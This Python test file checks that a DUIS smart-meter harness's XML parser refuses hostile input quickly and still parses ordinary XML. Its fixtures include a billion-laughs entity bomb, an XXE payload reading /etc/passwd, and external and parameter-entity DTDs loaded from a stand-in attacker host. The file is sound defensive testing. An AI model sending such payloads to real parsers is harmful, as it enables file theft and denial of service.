"""Hostile XML is refused, quickly, before it costs much; ordinary XML parses."""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from harness.duis.envelope import read_envelope
from harness.duis.errors import DuisSchemaError, HostileXml, MalformedXml
from harness.duis.responses import decode_response
from harness.duis.safe_xml import DEFAULT_LIMITS, Limits, _parse_counting, parse_untrusted
from harness.duis.schema import DuisSchema
from harness.errors import HarnessError

# Seconds: a bound against an attack that got through (an expanded bomb costs minutes or
# exhausts memory), not a speed measurement (benchmarks/ measure speed): it must hold on a
# machine whose cores are busy with other jobs.
QUICK = 10.0

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<sr:Request xmlns:sr="http://www.dccinterface.co.uk/ServiceUserGateway">&lol9;</sr:Request>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<r>&secret;</r>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.invalid/evil.dtd">
<r/>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<r/>
"""
INTERNAL_DTD_ONLY = b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ELEMENT r ANY>]>\n<r/>\n'
UNDECLARED_ENTITY = b"<r>&secret;</r>"
HUGE_BODY = b"<r>" + b"A" * (5 * 1024 * 1024) + b"</r>"
DEEP = b"<a>" * 10_000 + b"</a>" * 10_000
WIDE = b"<r>" + b"<e/>" * 100_000 + b"</r>"
UTF16 = '<?xml version="1.0" encoding="UTF-16"?><r/>'.encode("utf-16")
LATIN1 = b'<?xml version="1.0" encoding="ISO-8859-1"?><r>\xe9</r>'


def refused_quickly(action: Callable[[], object], expected: type[HarnessError], words: str) -> None:
    started = time.perf_counter()
    with pytest.raises(expected) as caught:
        action()
    elapsed = time.perf_counter() - started
    assert elapsed < QUICK, f"took {elapsed:.3f}s to refuse"
    message = str(caught.value)
    assert "\n" not in message, "messages are one line"
    assert words.lower() in message.lower(), message


@pytest.mark.parametrize(
    ("document", "words"),
    [
        pytest.param(BILLION_LAUGHS, "DTD markup <!DOCTYPE", id="billion-laughs"),
        pytest.param(EXTERNAL_ENTITY, "DTD markup <!DOCTYPE", id="external-entity"),
        pytest.param(EXTERNAL_DTD, "DTD markup <!DOCTYPE", id="external-dtd"),
        pytest.param(PARAMETER_ENTITY, "DTD markup <!DOCTYPE", id="parameter-entity"),
        pytest.param(INTERNAL_DTD_ONLY, "DTD markup <!DOCTYPE", id="internal-dtd"),
        pytest.param(b"<r/><!ENTITY x 'y'>", "DTD markup <!ENTITY", id="stray-entity-declaration"),
        pytest.param(UNDECLARED_ENTITY, "entity reference &secret", id="entity-reference"),
        pytest.param(HUGE_BODY, "bytes refused", id="5-MiB-body"),
        pytest.param(DEEP, "nested deeper than 64", id="10000-deep"),
        pytest.param(b"<a>" * 65 + b"</a>" * 65, "nested deeper than 64", id="65-deep"),
        pytest.param(WIDE, "more than 50000 elements", id="100000-elements"),
        pytest.param(UTF16, "only UTF-8", id="utf-16"),
        pytest.param(LATIN1, "only UTF-8", id="latin-1"),
    ],
)
def test_hostile_documents_are_refused_quickly(document: bytes, words: str) -> None:
    refused_quickly(lambda: parse_untrusted(document), HostileXml, words)


def test_the_dcc_xxe_sample_is_refused(duis_data: Path) -> None:
    document = (duis_data / "templates" / "duis-xxe.xml").read_bytes()
    refused_quickly(lambda: parse_untrusted(document), HostileXml, "<!DOCTYPE")
    refused_quickly(lambda: decode_response(document), HostileXml, "<!DOCTYPE")


def test_codec_entry_points_refuse_hostile_documents() -> None:
    refused_quickly(lambda: read_envelope(BILLION_LAUGHS), HostileXml, "DTD")
    refused_quickly(lambda: read_envelope(DEEP), HostileXml, "nested")
    refused_quickly(lambda: decode_response(HUGE_BODY), HostileXml, "bytes refused")


def test_wrong_namespace_is_not_a_duis_request(duis_schema: DuisSchema) -> None:
    document = (
        b'<sr:Request xmlns:sr="http://attacker.invalid/ServiceUserGateway" schemaVersion="5.4">'
        b"<sr:Header/><sr:Body/></sr:Request>"
    )
    refused_quickly(lambda: read_envelope(document), DuisSchemaError, "not a DUIS request")
    with pytest.raises(DuisSchemaError, match="No matching global declaration"):
        duis_schema.validate(parse_untrusted(document))


def test_limits_can_be_tightened() -> None:
    small = Limits(max_bytes=100, max_depth=3, max_elements=5)
    with pytest.raises(HostileXml, match="limit is 100"):
        parse_untrusted(b"<r>" + b"x" * 200 + b"</r>", small)
    with pytest.raises(HostileXml, match="deeper than 3"):
        parse_untrusted(b"<a><b><c><d/></c></b></a>", small)
    with pytest.raises(HostileXml, match="more than 5 elements"):
        parse_untrusted(b"<r>" + b"<e/>" * 5 + b"</r>", small)


def test_ordinary_xml_keeps_comments_instructions_and_character_references() -> None:
    root = parse_untrusted(
        b"\xef\xbb\xbf<?xml version='1.0' encoding='utf-8'?>\n"
        b"<r a='&quot;'>&lt;&#65;&#x42;&amp;<!-- note --><?app data?></r>"
    )
    assert root.text == "<AB&"
    assert root.get("a") == '"'
    assert [type(child).__name__ for child in root] == ["_Comment", "_ProcessingInstruction"]


def test_malformed_xml_is_reported_as_malformed() -> None:
    with pytest.raises(MalformedXml, match="not well-formed"):
        parse_untrusted(b"<r><unclosed></r>")
    with pytest.raises(MalformedXml):
        parse_untrusted(b"")


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2048) | st.text(max_size=512).map(str.encode))
def test_any_bytes_either_parse_or_fail_with_a_harness_error(data: bytes) -> None:
    problem = ""
    try:
        parse_untrusted(data)
    except (HostileXml, MalformedXml) as exc:
        problem = str(exc)
    assert "\n" not in problem


def _outcome(parse: Callable[[], object]) -> bytes | str:
    """What a parse gives: the document as libxml2 reads it back, or the kind of refusal."""
    try:
        root = parse()
    except (HostileXml, MalformedXml) as exc:
        return type(exc).__name__
    assert root is not None
    return etree.tostring(root.getroottree())  # type: ignore[attr-defined]


def _counted(data: bytes) -> object:
    """The incremental parse that counts as it goes, whatever the document's size."""
    try:
        root = _parse_counting(data, DEFAULT_LIMITS)
    except etree.XMLSyntaxError as exc:
        if "depth" in str(exc).lower():
            raise HostileXml(str(exc)) from None
        raise MalformedXml(str(exc)) from None
    if root is None:
        raise MalformedXml("no root")
    return root


def _dcc_documents(duis_data: Path) -> list[bytes]:
    return [path.read_bytes() for path in sorted((duis_data / "templates").glob("*.XML"))]


def test_the_whole_parse_reads_every_dcc_template_as_the_counting_parse(duis_data: Path) -> None:
    documents = _dcc_documents(duis_data)
    assert len(documents) > 200
    for document in documents:
        whole = _outcome(lambda d=document: parse_untrusted(d))  # type: ignore[misc]
        assert whole == _outcome(lambda d=document: _counted(d))  # type: ignore[misc]


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from([b"<a>", b"</a>", b"<b x='1'/>", b"text", b"&amp;", b"<!-- c -->"]),
        max_size=200,
    ),
    st.integers(min_value=0, max_value=80),
)
def test_the_whole_parse_and_the_counting_parse_agree(parts: list[bytes], depth: int) -> None:
    """Documents either way (nested up to past the depth limit, well-formed or not) give the
    same tree or the same kind of refusal by the fast path as by the incremental one."""
    document = b"<r>" * depth + b"".join(parts) + b"</r>" * depth
    assert _outcome(lambda: parse_untrusted(document)) == _outcome(lambda: _counted(document))
